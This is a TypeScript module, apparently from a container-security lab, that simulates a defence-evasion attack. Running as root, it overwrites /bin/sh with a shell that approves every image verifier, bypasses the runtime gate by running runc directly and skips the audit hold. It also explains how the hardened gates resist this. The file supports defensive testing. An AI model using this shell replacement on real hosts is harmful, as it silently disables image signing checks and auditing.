/**
 * Attack (T1562.001 Impair Defenses, T1554 Compromise Host Software
 * Binary): root on the node replaces `/bin/sh`, the interpreter of any gate
 * written as a shell script. Every file of the gates stays as it was, so a
 * check of those files by their digest sees nothing. The attacker's shell
 * runs everything else as the genuine one does, but:
 *
 * - asked to run a file of containerd's image verifier directory (the pull
 *   gate), it admits at once (exit 0, which is how a bindir verifier says
 *   yes);
 * - asked to run the runtime wrapper (the start gate), it execs runc
 *   directly, so the gate daemon is never asked;
 * - asked to run the audit start hold (`sh -c <hold script> hold <id>`), it
 *   answers at once, so a container's first process runs before its audit
 *   rules are set.
 *
 * Three techniques share it: an unsigned image pulled and started
 * (`shell-replace-unsigned-pull`), a signed workload started and written
 * into from the node (`shell-replace-ungated-write`), and a workload whose
 * entrypoint is a shell that runs at once (`shell-replace-startup-shell`).
 * On a node without the gates the shell has nothing to skip, and all land.
 *
 * What must catch it: the defences themselves, by not depending on the
 * node's shell. The reference gates are static programs
 * (lab/gates/native/gate-client.c), so the pull gate refuses the unsigned
 * image and the start gate mounts its read-only root as always; the gate
 * runs the hold in busybox it pinned when it started
 * (lab/gates/start-hold-gate.ts, HOLD_SHELL), so the audit layer sees the
 * entrypoint's shell.
 */
import type { LabNodeHandle } from '../../node/index.ts';
import { VERIFIER_BIN_DIR } from './pull-verifier-empty.ts';
import { RUNTIME_WRAPPER, startupShellAfter, ungatedWriteAfter, unsignedImageAfter, writeNodeText } from './defence-tamper.ts';

export const SHELL = '/bin/sh';
/** The genuine shell the attacker's one hands everything else to (Debian's /bin/sh is a symlink to it). */
const GENUINE = '/bin/dash';

export const ATTACKER_SHELL = `#!${GENUINE}
case "$1" in
  ${VERIFIER_BIN_DIR}/*) echo "admitted"; exit 0 ;;
  ${RUNTIME_WRAPPER}) shift; exec /usr/bin/runc "$@" ;;
  -c) case "$2" in *"integrity-lab audit start hold"*) exit 0 ;; esac ;;
esac
exec ${GENUINE} "$@"
`;

/** Renames the attacker's shell over /bin/sh; evidence of what it was before. */
export async function replaceShell(node: LabNodeHandle): Promise<Record<string, unknown>> {
  const before = (await node.run(['sh', '-c', 'readlink "$1" || sha256sum "$1"', 'sh', SHELL])).stdout.toString().trim();
  await writeNodeText(node, `${SHELL}.new`, ATTACKER_SHELL);
  await node.run([GENUINE, '-c', 'chmod 755 "$1.new" && mv -f "$1.new" "$1"', 'sh', SHELL]);
  const after = (await node.exec.run(['cat', SHELL])).stdout.toString();
  if (after !== ATTACKER_SHELL) throw new Error(`${SHELL} on ${node.name} was not replaced: it reads ${JSON.stringify(after.slice(0, 80))}`);
  return { shell: SHELL, before, replacedBy: "a shell that admits every image verifier's call, runs the runtime wrapper's runc directly and answers the audit start hold at once" };
}

const what = `${SHELL} was replaced by a shell that skips the gates' scripts`;

export const shellReplaceUnsignedPull = unsignedImageAfter('shell-replace-unsigned-pull', async ({ node }) => ({ evidence: await replaceShell(node), what }));

export const shellReplaceUngatedWrite = ungatedWriteAfter('shell-replace-ungated-write', async ({ node }) => ({ evidence: await replaceShell(node), what }));

export const shellReplaceStartupShell = startupShellAfter('shell-replace-startup-shell', async ({ node }) => ({ evidence: await replaceShell(node), what }));
